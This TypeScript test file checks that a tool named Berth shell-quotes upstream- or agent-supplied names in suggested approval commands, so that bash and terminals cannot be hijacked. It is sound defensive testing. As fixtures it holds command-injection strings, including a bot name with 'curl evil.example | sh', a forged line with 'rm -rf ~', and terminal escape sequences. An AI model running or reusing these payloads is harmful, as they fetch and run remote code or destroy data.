// Commands Berth suggests carry an upstream's or an agent's words (a prompt's name, a resource's URI,
// a tool id, a client's name). Each is written as one shell word: bash, given the suggestion, must
// see exactly that string as one argument, whatever it holds, and the suggestion itself must hold
// nothing a terminal obeys.
import { execFileSync, spawnSync } from "node:child_process"
import { resolve } from "node:path"
import { describe, expect, it } from "vitest"
import type { WorkspaceState } from "../../projections/state.ts"
import { codeSpan, flagQuoted, lastArgument, lastArgumentQuoted, shellQuoted, shellWord } from "../../src/admin/shell-word.ts"
import { allowCommand } from "../../src/bots/allowlist.ts"
import { quarantineReport } from "../../src/cli/plugin.ts"
import { promptRefusal, resourceRefusal } from "../../src/mcp/pinned-reads.ts"

const HOSTILE = [
  "x; touch /tmp/pwned",
  "it's $(id) and `id` && id | id > out",
  "repo://acme/readme?a=1&b=2#top",
  "two\nlines",
  "a\\b\\'c'",
  "\u001b]0;owned\u0007\u001b[2J",
  "\u009b31m C1 and \u202e bidi and \u2028 separator",
  "café ☕",
  "*glob?[ab]",
  "~root",
  ""
]

/** The arguments bash reads from `printf '%s\0'` and the given words: exactly what it was asked to run. */
const bashArgs = (words: string): Array<string> =>
  execFileSync("bash", ["-c", `printf '%s\\0' ${words}`]).toString("utf8").split("\0").slice(0, -1)

/** What a terminal would obey (as src/cli/printable.ts has it). */
const UNPRINTABLE = /[\p{Cc}\p{Bidi_Control}\u2028\u2029]/u

describe("shell words in suggested commands", () => {
  it("bash reads each word back as exactly its string, as one argument, and the word is printable", () => {
    for (const s of HOSTILE) {
      for (const word of [shellWord(s), shellQuoted(s)]) {
        expect(bashArgs(word), JSON.stringify(word)).toEqual([s])
        expect(word, JSON.stringify(word)).not.toMatch(UNPRINTABLE)
      }
      // A flag's value, joined to it: one argument, `--name=` and exactly the string.
      expect(bashArgs(flagQuoted("tags", s))).toEqual([`--tags=${s}`])
    }
    // Several in one command line stay apart.
    expect(bashArgs(HOSTILE.map(shellWord).join(" "))).toEqual(HOSTILE)
  })

  it("keeps Berth's own names bare, and quotes anything else", () => {
    expect(shellWord("up__echo")).toBe("up__echo")
    expect(shellWord("test://readme")).toBe("test://readme")
    expect(shellWord("x; touch /tmp/pwned")).toBe("'x; touch /tmp/pwned'")
    expect(shellWord("it's")).toBe(`'it'\\''s'`)
    expect(shellWord("\u001b[2J")).toBe(`$'\\x1b[2J'`)
    expect(shellWord("\u202e")).toBe(`$'\\u202e'`)
    expect(shellQuoted("bot")).toBe("'bot'")
  })

  it("an upstream's word that starts with a dash comes after `--`, so berth's parser takes it as the argument, not a flag", () => {
    expect(lastArgument("-w")).toBe("-- -w")
    expect(lastArgument("greet")).toBe("greet")
    expect(lastArgumentQuoted("-rf *")).toBe("-- '-rf *'")
    const state = { prompts: { "up__--help": { status: "quarantined" } } } as unknown as WorkspaceState
    const suggestion = suggested(promptRefusal(state, "up", "--help"))!
    expect(bashArgs(suggestion.slice("berth ".length))).toEqual(["prompt", "approve", "up", "--", "--help"])
    // berth itself: with `--` the command parses and goes on to the plane (none listens here); without it, `-w` is its flag.
    const berth = (...args: Array<string>) =>
      spawnSync(process.execPath, [resolve(import.meta.dirname, "../../bin/berth.js"), ...args], {
        env: { PATH: process.env.PATH!, HOME: "/nonexistent", BERTH_URL: "http://127.0.0.1:1", BERTH_ADMIN_TOKEN: "unused" },
        encoding: "utf8"
      })
    expect(berth("-w", "acme", "prompt", "approve", "gh", "--", "-w").stderr).toContain("PlaneUnreachable")
    expect(berth("-w", "acme", "prompt", "approve", "gh", "-w").stderr).toContain("Missing value for flag --workspace")
  })

  /**
   * Code spans as CommonMark reads them: a run of n backticks opens one, the next run of exactly n
   * closes it (a run with no such closer is text), and one space is taken off each end when both have one.
   */
  const codeSpans = (text: string): Array<string> => {
    const runs = Array.from(text.matchAll(/`+/g), (run) => ({ at: run.index, length: run[0].length }))
    const spans: Array<string> = []
    for (let i = 0; i < runs.length; i++) {
      const open = runs[i]!
      const close = runs.findIndex((run, j) => j > i && run.length === open.length)
      if (close < 0) continue
      const content = text.slice(open.at + open.length, runs[close]!.at)
      spans.push(/^ [^]* $/.test(content) && content.trim() !== "" ? content.slice(1, -1) : content)
      i = close
    }
    return spans
  }

  /** The command a refusal suggests: its last code span that is a berth command. */
  const suggested = (text: string | undefined) => codeSpans(text ?? "").findLast((span) => span.startsWith("berth "))

  it("a suggested command is one markdown code span that shows exactly it, whatever backticks its words hold", () => {
    expect(codeSpan("berth tool approve up__echo")).toBe("`berth tool approve up__echo`")
    expect(codeSpan("a`b")).toBe("``a`b``")
    expect(codeSpan("berth x ``` `")).toBe("```` berth x ``` ` ````")
    for (const command of ["berth tool approve 'up__e`id`'", "berth x `", "` berth", "a``b`c", "berth ok"]) {
      expect(codeSpans(`see ${codeSpan(command)}.`), command).toEqual([command])
    }
    // A quarantined prompt whose upstream name holds backticks, balanced or not: the refusal reads as
    // exactly two spans, the name and the whole command.
    for (const prompt of ["e`id`", "a`b", "``x"]) {
      const state = { prompts: { [`up__${prompt}`]: { status: "quarantined" } } } as unknown as WorkspaceState
      const refusal = promptRefusal(state, "up", prompt)!
      expect(codeSpans(refusal), refusal).toEqual([prompt, `berth prompt approve up ${shellWord(prompt)}`])
      expect(bashArgs(suggested(refusal)!.slice("berth ".length))).toEqual(["prompt", "approve", "up", prompt])
    }
  })

  it("refusals of a quarantined prompt or resource suggest a command that approves exactly that one", () => {
    const name = HOSTILE[1]!
    const uri = HOSTILE[2]!
    const state = {
      prompts: { [`up__${name}`]: { status: "quarantined" } },
      resources: { [`up:${uri}`]: { status: "quarantined" } }
    } as unknown as WorkspaceState
    const prompt = suggested(promptRefusal(state, "up", name))
    expect(bashArgs(prompt!.slice("berth ".length))).toEqual(["prompt", "approve", "up", name])
    const resource = suggested(resourceRefusal(state, "up", uri))
    expect(bashArgs(resource!.slice("berth ".length))).toEqual(["resource", "approve", "up", uri])
  })

  it("a bot refusal's allow command names the client's own name, quoted, whatever the client called itself", () => {
    const name = "Bot'; curl evil.example | sh; echo '\u001b[2J"
    const command = allowCommand("acme", { name }, { admitted: false })
    expect(command).not.toMatch(UNPRINTABLE)
    expect(bashArgs(command.slice("berth ".length))).toEqual(["-w", "acme", "bot", "allow", name])
  })

  it("a refresh report keeps each quarantine on one line, with a command that approves exactly it", () => {
    const prompt = "greet\nquarantined prompt fake: forged line (approve again: berth prompt approve up fake; rm -rf ~)"
    const uri = "repo://x?a=1&b=$(id)"
    const events = [
      { type: "ToolQuarantined", data: { tool: "up__e`id`", reason: "the tool's definition changed since it was approved" } },
      { type: "PromptQuarantined", data: { plugin: "up", prompt, reason: "the prompt's definition changed since it was approved" } },
      { type: "ResourceQuarantined", data: { plugin: "up", uri, reason: "the resource's definition changed since it was approved" } }
    ]
    const lines = quarantineReport("up", { seq: 9, replayed: false, events } as unknown as Parameters<typeof quarantineReport>[1])
    expect(lines).toHaveLength(3)
    for (const line of lines) expect(line).not.toMatch(UNPRINTABLE)
    // Each line ends with its command, and bash reads that command as approving exactly that one.
    const wanted = [
      [`berth tool approve ${shellWord("up__e`id`")}`, ["tool", "approve", "up__e`id`"]],
      [`berth prompt approve up ${shellWord(prompt)}`, ["prompt", "approve", "up", prompt]],
      [`berth resource approve up ${shellWord(uri)}`, ["resource", "approve", "up", uri]]
    ] as const
    wanted.forEach(([command, args], i) => {
      expect(lines[i]!.endsWith(`(approve again: ${command})`), lines[i]).toBe(true)
      expect(bashArgs(command.slice("berth ".length))).toEqual(args)
    })
    // The forged text stays inside the quoted name, never bare on the line.
    expect(lines[1]).toMatch(/^quarantined prompt \$'greet\\x0aquarantined prompt fake: forged line \(approve again: berth prompt approve up fake; rm -rf ~\)': /)
  })
})
